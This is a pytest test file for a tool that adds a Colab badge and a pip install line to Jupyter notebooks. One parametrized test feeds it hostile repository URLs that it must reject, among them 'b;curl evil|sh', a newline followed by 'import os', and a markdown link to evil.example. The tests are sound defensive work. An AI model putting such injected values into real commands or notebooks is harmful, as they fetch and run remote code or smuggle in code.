"""`make repository` writes a badge and an install line into notebooks, and nothing that an address smuggles in."""

import subprocess

import nbformat
import pytest
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output

import repository

URL = "https://github.com/someone/judges"
OLD = '%pip install -q "vjudge[gpu,train] @ git+https://github.com/else/where"'


@pytest.fixture
def path(tmp_path):
    output = new_output("stream", text="kept\n")
    cells = [
        new_markdown_cell("# 02 · A title\n\n**A question?**"),
        new_code_cell(OLD, execution_count=1),
        new_code_cell("print('kept')", execution_count=2, outputs=[output]),
    ]
    path = tmp_path / "02_fine_tune.ipynb"
    nbformat.write(new_notebook(cells=cells), path)
    return path


def sources(path):
    return [cell.source for cell in nbformat.read(path, as_version=4).cells]


def test_badge_and_install_line_come_and_go_and_nothing_else_changes(path):
    repository.main(["--url", "", str(path)])
    bare, setup = path.read_bytes(), sources(path)[1]
    assert sources(path)[0] == "# 02 · A title\n\n**A question?**" and "://github" not in setup
    assert setup.startswith("# On Colab, first: %pip install") and "[gpu,train] @ git+URL" in setup
    for url in (URL, URL, "git@github.com:someone/judges.git"):
        repository.main(["--url", url, str(path)])
        opening, setup, last = sources(path)
        link = "https://colab.research.google.com/github/someone/judges/blob/main/notebooks/02_fine_tune.ipynb"
        assert opening == f"{repository.BADGE}({link})\n\n# 02 · A title\n\n**A question?**"
        assert setup == f'%pip install -q "vjudge[gpu,train] @ git+{URL}"'
        assert last == "print('kept')" and "kept\\n" in path.read_text()
    repository.main(["--url", "", str(path)])
    assert path.read_bytes() == bare


def test_another_host_has_an_install_line_and_no_badge_since_colab_opens_github_alone(path, capsys):
    repository.main(["--url", "ssh://git@gitlab.example.org/group/sub/judges.git", str(path)])
    assert sources(path)[0].startswith("# 02") and "no badges" in capsys.readouterr().out
    assert sources(path)[1].endswith('git+https://gitlab.example.org/group/sub/judges"')


@pytest.mark.parametrize(
    "url",
    [
        "https://github.com/a/b;curl evil|sh",
        'https://github.com/a/b"\n    import os',
        "https://github.com/a/{os.getcwd()}",
        "https://github.com/a/$HOME",
        "https://github.com/a/b)[x](https://evil.example",
        "https://github.com/a/../b",
        "https://user:secret@github.com/a/b",
        "file:///srv/b.git",
        "https://gïthub.com/a/b",
    ],
)
def test_an_address_that_could_carry_code_or_a_password_is_refused_and_not_repeated(
    path, url, capsys
):
    before = path.read_bytes()
    with pytest.raises(SystemExit):
        repository.main([f"--url={url}", str(path)])
    assert path.read_bytes() == before
    error = capsys.readouterr().err.splitlines()[-1]
    assert (
        "https://github.com/OWNER/NAME" in error and "secret" not in error and "evil" not in error
    )


def test_a_first_code_cell_that_does_more_than_set_up_is_not_overwritten(path):
    notebook = nbformat.read(path, as_version=4)
    notebook.cells[1].source += "\nresult = 1"
    nbformat.write(notebook, path)
    before = path.read_bytes()
    with pytest.raises(ValueError, match="02_fine_tune: .*only install vjudge"):
        repository.main(["--url", URL, str(path)])
    assert path.read_bytes() == before


@pytest.mark.parametrize(("remote", "line"), [(URL, URL), ("/srv/judges.git", ""), ("", "")])
def test_the_default_is_the_checkouts_own_origin_where_others_can_reach_it(
    path, remote, line, capsys
):
    def git(*arguments):
        subprocess.run(["git", *arguments], cwd=path.parent, check=True, capture_output=True)

    git("init")
    if remote:
        git("remote", "add", "origin", remote)
    repository.main([str(path)])
    assert ("origin is not a" in capsys.readouterr().out) == (remote.startswith("/"))
    opening, setup, _ = sources(path)
    assert opening.startswith(repository.BADGE if line else "# 02")
    assert "/srv" not in setup and (
        f"git+{line}" in setup if line else setup.startswith("# On Colab")
    )
